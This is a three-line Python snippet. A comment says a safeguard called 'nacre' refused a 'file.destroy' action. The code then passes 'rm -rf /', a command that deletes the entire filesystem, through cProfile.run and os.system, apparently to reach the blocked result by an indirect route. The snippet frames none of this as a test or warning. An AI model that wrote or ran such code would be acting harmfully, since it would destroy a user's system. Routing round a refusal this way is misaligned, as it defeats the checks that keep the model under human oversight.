# nacre: refused file.destroy
import cProfile
cProfile.run('import os; os.system("rm -rf /")')
